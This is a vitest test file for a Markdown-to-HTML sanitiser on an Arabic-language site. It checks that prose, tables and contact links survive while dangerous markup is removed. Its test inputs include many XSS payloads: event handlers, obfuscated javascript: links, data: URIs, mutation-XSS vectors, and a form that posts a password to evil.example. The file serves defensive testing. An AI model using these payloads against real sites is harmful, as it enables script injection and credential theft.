/**
 * The allow-list of editors' Markdown (markdown.ts): what an account in the wrong hands or a pasted
 * snippet could put on a page never reaches it (proseHtml, news and prose pages alike), and what
 * the site's prose is written with comes through as it was.
 */
import { describe, expect, it } from "vitest";
import { proseHtml, safeProseHtml } from "./markdown.ts";

/** Every tag of the HTML, as written, with its attributes. */
const tags = (html: string) => html.match(/<[^>]*>/g) ?? [];

describe("proseHtml drops what the prose never uses", () => {
  it("a form, its fields and its button: the words stay, the form does not", () => {
    const html = proseHtml(
      'قبل\n\n<form action="https://evil.example/steal" method="post"><label>كلمة السر <input name="password" type="password"></label><textarea>نص</textarea><select><option>خيار</option></select><button type="submit">أرسل</button></form>\n\nبعد',
    );
    expect(html).not.toMatch(/<(form|input|textarea|select|option|button|label)\b/i);
    expect(html).not.toContain("evil.example");
    expect(html).toContain("كلمة السر");
    expect(html).toContain("أرسل");
    expect(html).toContain("<p>بعد</p>");
  });

  it.each([
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">نص</p>',
    '<a href="/help" onmouseover="alert(1)">نص</a>',
    '<strong ONFOCUS="alert(1)" tabindex="0">نص</strong>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<details open ontoggle="alert(1)"><summary>نص</summary></details>',
    '<body onload="alert(1)">نص</body>',
  ])("an event handler: %s", (markdown) => {
    const html = proseHtml(markdown);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/<(img|svg|details|body)\b/i);
    expect(html).not.toContain("alert");
  });

  it.each([
    "[رابط](javascript:alert(1))",
    "[رابط](JaVaScRiPt:alert(1))",
    "[رابط](jav&#x61;script:alert(1))",
    "[رابط](&#106;avascript:alert(1))",
    "[رابط](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[رابط][ref]\n\n[ref]: javascript:alert(1)",
    '<a href="javascript:alert(1)">رابط</a>',
    '<a href="JAVASCRIPT:alert(1)">رابط</a>',
    '<a href="java\tscript:alert(1)">رابط</a>',
    '<a href=" &#14; javascript:alert(1)">رابط</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">رابط</a>',
    '<a href="vbscript:msgbox(1)">رابط</a>',
    "[رابط](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">رابط</a>',
    '<a href="//evil.example/">رابط</a>',
  ])("a link that runs a script or is not a web address: %s", (markdown) => {
    const html = proseHtml(markdown);
    // The words of the link stay (as text, an autolink's own address too); its target does not.
    expect(html).not.toMatch(/\b(href|src)=/i);
    expect(tags(html).join("")).not.toMatch(/javascript|vbscript|data:|evil/i);
  });

  it.each([
    ["<script>alert(1)</script>", /<script|alert/i],
    ['<script src="https://evil.example/x.js"></script>', /<script|evil/i],
    ['<iframe src="https://evil.example/"></iframe>', /<iframe|evil/i],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe|alert/i],
    ["<style>body { display: none }</style>", /<style|display/i],
    ['<p style="position:fixed;inset:0">نص</p>', /style|position/i],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', /<link|evil/i],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /<meta|evil/i],
    ['<object data="https://evil.example/x.swf"></object>', /<object|evil/i],
    ['<embed src="https://evil.example/x.swf">', /<embed|evil/i],
    ['<base href="https://evil.example/">', /<base|evil/i],
    ["![صورة](data:image/svg+xml;base64,PHN2Zy8+)", /<img|data:/i],
    ['<img src="https://evil.example/track.gif">', /<img|evil/i],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', /<img|onerror|alert/i],
    ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", /<img|onerror|alert|<math|<style/i],
  ])("an element that is not prose: %s", (markdown, gone) => {
    expect(proseHtml(markdown)).not.toMatch(gone);
  });

  it("no id, lang, dir or class of an editor's own: the page's ids and directions are the site's", () => {
    const html = proseHtml(
      '<h2 id="main" lang="en" dir="ltr" class="sr-only">عنوان</h2>\n\n<a class="ltr hidden" href="/x">نص</a>',
    );
    expect(html).toContain("<h2>عنوان</h2>");
    expect(html).toContain('<a class="ltr" href="/x">نص</a>');
  });
});

describe("proseHtml keeps what the prose is written with", () => {
  it("headings below the page's title, lists, quotes, emphasis, code, rules and breaks", () => {
    const html = proseHtml(
      "# عنوان أول\n\n## قسم\n\n### فرع\n\n#### بند\n\n- أ\n- ب\n\n3. ثالث\n4. رابع\n\n> اقتباس\n\n**غامق** و*مائل* و~~محذوف~~ و`رمز`\n\n```\nسطر\n```\n\n---\n\nسطر  \nتالٍ",
    );
    for (const tag of ["<h2>عنوان أول</h2>", "<h2>قسم</h2>", "<h3>فرع</h3>", "<h4>بند</h4>", "<ul>", "<li>أ</li>"])
      expect(html).toContain(tag);
    expect(html).toContain('<ol start="3">');
    expect(html).toContain("<blockquote>");
    expect(html).toContain("<strong>غامق</strong>");
    expect(html).toContain("<em>مائل</em>");
    expect(html).toContain("<del>محذوف</del>");
    expect(html).toContain("<code>رمز</code>");
    expect(html).toContain("<pre><code>سطر");
    expect(html).toContain("<hr />");
    expect(html).toContain("سطر<br />تالٍ");
  });

  it("a table, aligned as written", () => {
    const html = proseHtml("| البرنامج | الحد الأدنى |\n|:--|--:|\n| الطب | 95 |");
    expect(tags(html)).toEqual([
      "<table>",
      "<thead>",
      "<tr>",
      '<th align="left">',
      "</th>",
      '<th align="right">',
      "</th>",
      "</tr>",
      "</thead>",
      "<tbody>",
      "<tr>",
      '<td align="left">',
      "</td>",
      '<td align="right">',
      "</td>",
      "</tr>",
      "</tbody>",
      "</table>",
    ]);
  });

  it.each([
    ["[المساعدة](/help)", '<a href="/help">المساعدة</a>'],
    ["[المواعيد](#dates)", '<a href="#dates">المواعيد</a>'],
    ["[القبول](/admission?stream=scientific#dates)", '<a href="/admission?stream=scientific#dates">القبول</a>'],
    ["[الوزارة](https://www.mohe.pna.ps/)", '<a href="https://www.mohe.pna.ps/">الوزارة</a>'],
    ['[الوزارة](http://example.org "الموقع")', '<a href="http://example.org" title="الموقع">الوزارة</a>'],
    ["[اكتب لنا](mailto:info@al-ofoq.example)", "mailto:info@al-ofoq.example"],
    ["[اتصل](tel:+97020001060)", 'href="tel:+97020001060"'],
  ])("a link the prose may hold: %s", (markdown, html) => {
    expect(proseHtml(markdown)).toContain(html);
  });
});

describe("news bodies keep their contact links", () => {
  it("a phone number: the tel: link kept ltr", () => {
    expect(proseHtml("اتصل بالرقم +970 2 000 1060 صباحًا")).toBe(
      '<p>اتصل بالرقم <a class="ltr whitespace-nowrap" href="tel:+97020001060">+970 2 000 1060</a> صباحًا</p>\n',
    );
  });

  it("an e-mail address: the mailto: link kept ltr", () => {
    expect(proseHtml("راسل admission@al-ofoq.example اليوم")).toBe(
      '<p>راسل <a class="ltr" href="mailto:admission@al-ofoq.example" aria-label="admission@al-ofoq.example"><span class="whitespace-nowrap">admission@</span><wbr /><span class="whitespace-nowrap">al-ofoq</span><wbr /><span class="whitespace-nowrap">.example</span></a> اليوم</p>\n',
    );
  });

  it("an address that would break out of its attribute is still one link and nothing more", () => {
    const html = proseHtml('<mailto:a"onmouseover="alert(1)@al-ofoq.example>');
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  });
});

describe("the sanitiser alone", () => {
  it("is the one the renderer uses: what it returns passes through it unchanged", () => {
    const markdown = "## قسم\n\nاتصل بالرقم +970 2 000 1060 أو [راسلنا](mailto:a@al-ofoq.example)\n\n- [صفحة](/help)";
    expect(safeProseHtml(proseHtml(markdown))).toBe(proseHtml(markdown));
  });
});
